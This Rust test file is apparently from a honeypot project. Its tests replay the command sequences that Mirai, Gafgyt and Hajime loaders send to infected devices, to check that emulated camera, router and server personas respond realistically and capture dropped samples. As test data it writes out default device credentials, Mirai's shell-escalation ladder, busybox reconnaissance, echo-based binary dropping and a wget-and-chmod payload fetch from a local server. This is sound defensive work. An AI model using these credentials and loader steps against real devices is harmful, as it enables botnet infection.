//! What loaders of several families type, on every persona with Telnet and on a bare shell
//! without negotiation: each rung must hold, or they go away before they leave anything.

use crate::support::bot::Bot;
use crate::support::program::Ukai;
use crate::support::wait_for;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::time::{Duration, Instant};
use ukai_model::Sha256;

/// The ladder of Mirai's loader (loader/src/server.c); others use the same words.
const RUNGS: [&str; 4] = ["enable", "system", "shell", "sh"];

type Pair = (&'static str, &'static str);

/// Persona, a pair that is let in after one that is not, and `e_machine` of its programs.
const PERSONAS: [(&str, [Pair; 2], u16); 4] = [
    ("camera-arm", [("root", "xc3511"), ("root", "xmhdipc")], 40),
    ("router-mips", [("root", "nothing-7z"), ("telecomadmin", "admintelecom")], 8),
    ("router-mips", [("root", "nothing-7z"), ("root", "admin")], 8),
    ("server-debian", [("root", "nothing-7z"), ("root", "toor")], 62),
];

fn start() -> Ukai {
    Ukai::start_with(|configuration| {
        for (old, new) in [
            ("raw = [0] }", "raw = [0], shell = [0] }"),
            ("telnet = [0], http = [0], detect = [0] }", "telnet = [0], http = [0], shell = [0] }"),
            ("mysql = [0], ", "mysql = [0], telnet = [0], shell = [0], "),
        ] {
            assert!(configuration.contains(old), "the tests' configuration");
            *configuration = configuration.replace(old, new);
        }
    })
}

/// Runs a line and gives what it printed.
type Run<'a> = &'a mut dyn FnMut(&str) -> Vec<u8>;

fn said(run: Run<'_>, line: &str) -> String {
    String::from_utf8_lossy(&run(line)).replace('\r', "")
}

/// Mirai: who runs, where can be written, which machine, how to load.
fn mirai(run: Run<'_>, cpu: u16) {
    let processes = said(run, "/bin/busybox ps");
    let number =
        |line: &&str| line.split_whitespace().next().is_some_and(|id| id.parse::<u32>().is_ok());
    assert!(processes.lines().filter(number).count() > 5, "{processes}");
    let mounts = said(run, "/bin/busybox cat /proc/mounts");
    assert!(mounts.lines().any(|line| line.contains(" /proc proc rw")), "{mounts}");
    let writable: Vec<&str> = mounts
        .lines()
        .filter(|line| line.contains(" rw"))
        .filter_map(|line| line.split(' ').nth(1))
        .collect();
    let mut found = false;
    for folder in writable.into_iter().chain(["/dev", "/tmp"]) {
        let line = format!(
            "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{folder}' > {folder}/.nippon; /bin/busybox cat \
             {folder}/.nippon; /bin/busybox rm {folder}/.nippon"
        );
        let seen = said(run, &line);
        found |= seen.contains(&format!("kami{folder}"));
    }
    assert!(found, "no folder of {mounts} can be written");
    for line in [
        "/bin/busybox cat /bin/echo",
        "/bin/busybox dd bs=52 count=1 if=/bin/echo",
        "cp /bin/echo /tmp/.s; dd bs=52 count=1 if=/tmp/.s || cat /tmp/.s || while read i; do echo $i; \
         done < /tmp/.s; >/tmp/.s",
    ] {
        machine(&run(line), cpu);
    }
    let tools = said(run, "/bin/busybox wget; /bin/busybox tftp");
    assert!(!tools.contains("applet not found") && tools.contains("Usage: "), "{tools}");
}

/// The header of a program for that machine is in `bytes`.
fn machine(bytes: &[u8], cpu: u16) {
    let at = bytes.windows(4).position(|part| part == b"\x7fELF");
    let header = at.and_then(|at| bytes.get(at..at + 20)).expect("the header of a program");
    let pair = [header[18], header[19]];
    let machine = if header[5] == 1 { u16::from_le_bytes(pair) } else { u16::from_be_bytes(pair) };
    assert_eq!(machine, cpu);
    assert_eq!(header[4], if cpu == 62 { 2 } else { 1 });
}

/// Gafgyt, Hajime and others: greetings, folders, markers.
fn others(run: Run<'_>, cpu: u16) {
    assert_eq!(said(run, "/bin/busybox echo -e '\\147\\141\\171\\146\\147\\164'"), "gayfgt\n");
    // Debian's sh is dash, whose echo takes no options and no \x.
    let greeting = if cpu == 62 { "-e \\x41\\x4b\n" } else { "AK\n" };
    assert_eq!(said(run, "echo -e '\\x41\\x4b'"), greeting);
    let home = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd";
    assert!(said(run, home).starts_with("/tmp"), "a folder to stay in");
    assert_eq!(
        said(run, ">/tmp/.x && cd /tmp; >/dev/.y && cd /dev; pwd; rm -f /tmp/.x /dev/.y"),
        "/dev\n"
    );
    let hajime = said(run, "cd /tmp; cat .none || cp /bin/echo .s; /bin/busybox ECCHI");
    assert!(hajime.contains("No such file or directory\n"), "{hajime}");
    assert!(hajime.ends_with("ECCHI: applet not found\n"), "{hajime}");
    assert_eq!(said(run, "rm -rf .s; ls .s >/dev/null 2>&1 || echo gone"), "gone\n");
    let dropped =
        said(run, "cp /bin/echo dvr; >dvr; /bin/busybox chmod 777 dvr; ls -l dvr; rm dvr");
    assert!(dropped.starts_with("-rwxrwxrwx") && dropped.ends_with(" dvr\n"), "{dropped}");
    let sum = said(run, "echo $((7*6)); [ -f /bin/busybox ] && echo yes || echo no");
    assert_eq!(sum, "42\nyes\n");
}

/// Loads `file` in lines of `echo`, as Mirai does where there is neither wget nor tftp.
fn echo_load(run: Run<'_>, file: &[u8], cpu: u16) {
    let echo = if cpu == 62 { "/bin/busybox echo" } else { "echo" };
    for (number, part) in file.chunks(128).enumerate() {
        let hex = hex::encode(part);
        let hex: Vec<&str> = (0..part.len()).map(|at| &hex[2 * at..2 * at + 2]).collect();
        let hex = format!("\\x{}", hex.join("\\x"));
        let to = if number == 0 { ">" } else { ">>" };
        assert_eq!(said(run, &format!("{echo} -ne '{hex}' {to} /tmp/upnp")), "", "a part");
    }
    let size = said(run, "/bin/busybox chmod 777 /tmp/upnp; wc -c < /tmp/upnp");
    assert_eq!(size.trim(), file.len().to_string());
}

/// Loads `file` from a web server.
fn fetch(run: Run<'_>, file: &[u8]) {
    let door = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = door.local_addr().expect("an address").port();
    let answer = [&b"HTTP/1.0 200 OK\r\n\r\n"[..], file].concat();
    let server = std::thread::spawn(move || {
        let (mut peer, _) = door.accept().expect("a client");
        let mut buffer = [0; 2048];
        let _ = peer.read(&mut buffer);
        peer.write_all(&answer).expect("the client takes bytes");
    });
    let line = format!(
        "cd /tmp; /bin/busybox wget http://127.0.0.1:{port}/bins/x -O - > dvrHelper; /bin/busybox \
         chmod 777 dvrHelper; wc -c < dvrHelper"
    );
    let seen = said(run, &line);
    server.join().expect("no panic");
    assert!(seen.trim_end().ends_with(&file.len().to_string()), "{seen}");
}

/// Something that looks like a program, of its own for each `mark`.
fn program(mark: u8) -> Vec<u8> {
    let body = (0..700_u16).map(|n| n.wrapping_mul(31).to_le_bytes()[0] ^ mark);
    [&b"\x7fELF\x01\x01\x01\0"[..], &body.collect::<Vec<_>>()].concat()
}

fn captured(ukai: &Ukai, files: &[Vec<u8>]) {
    let names: Vec<String> = files.iter().map(|file| Sha256::of(file).to_string()).collect();
    wait_for("the samples", Duration::from_secs(10), || {
        let page = ukai.get("/api/events?kind=sample.captured&limit=500");
        let events = page["items"].as_array()?;
        let seen = |name: &String| events.iter().any(|event| event["sha256"] == name.as_str());
        names.iter().all(seen).then_some(())
    });
}

#[test]
fn loaders_climb_over_telnet() {
    let ukai = start();
    let mut files = Vec::new();
    for (number, (persona, pairs, cpu)) in PERSONAS.into_iter().enumerate() {
        let mut bot = Bot::connect(ukai.service("telnet", persona));
        assert_eq!(bot.log_in(&pairs), 1, "{persona}");
        for rung in RUNGS {
            bot.say(rung);
            bot.expect(&["# ", "$ ", "> "]);
        }
        let run: Run<'_> = &mut |line| bot.run_bytes(line);
        mirai(run, cpu);
        others(run, cpu);
        let mark = u8::try_from(number).expect("few personas");
        files.extend([program(mark), program(mark + 100)]);
        echo_load(run, &files[2 * number], cpu);
        fetch(run, &files[2 * number + 1]);
    }
    captured(&ukai, &files);
}

#[test]
fn loaders_climb_on_a_bare_shell() {
    let ukai = start();
    let mut files = Vec::new();
    for (persona, cpu) in [("camera-arm", 40), ("router-mips", 8), ("server-debian", 62)] {
        let mut shell = Bare::connect(ukai.service("shell", persona));
        for rung in RUNGS {
            shell.say(rung);
        }
        let run: Run<'_> = &mut |line| shell.run(line);
        mirai(run, cpu);
        others(run, cpu);
        files.push(program(cpu.to_le_bytes()[0]));
        echo_load(run, &files[files.len() - 1], cpu);
    }
    captured(&ukai, &files);
}

/// A bare shell's client: no options, no log-in, no echo.
struct Bare(TcpStream);

impl Bare {
    fn connect(address: SocketAddr) -> Self {
        let stream = TcpStream::connect_timeout(&address, Duration::from_secs(5))
            .expect("the honeypot listens");
        stream.set_read_timeout(Some(Duration::from_millis(50))).expect("a socket option");
        Self(stream)
    }

    fn say(&mut self, line: &str) {
        self.0.write_all(format!("{line}\n").as_bytes()).expect("the honeypot takes bytes");
    }

    /// The output of a line, between two markers of the kind that loaders use.
    fn run(&mut self, line: &str) -> Vec<u8> {
        const MARKS: [&[u8]; 2] = [b"WZTQ: applet not found\n", b"WZTR: applet not found\n"];
        let find =
            |heard: &[u8], mark: &[u8]| heard.windows(mark.len()).position(|part| part == mark);
        self.say(&format!("/bin/busybox WZTQ; {line}; /bin/busybox WZTR"));
        let limit = Instant::now() + Duration::from_secs(30);
        let mut heard = Vec::new();
        loop {
            if let Some(start) = find(&heard, MARKS[0]).map(|at| at + MARKS[0].len())
                && let Some(length) = find(&heard[start..], MARKS[1])
            {
                return heard[start..start + length].to_vec();
            }
            let text = || String::from_utf8_lossy(&heard);
            assert!(Instant::now() < limit, "no end of {line:?}, but {:?}", text());
            let mut buffer = [0; 4096];
            match self.0.read(&mut buffer) {
                Ok(0) => panic!("the honeypot hung up after {:?}", text()),
                Ok(count) => heard.extend_from_slice(&buffer[..count]),
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(error) => panic!("the connection broke: {error}"),
            }
        }
    }
}
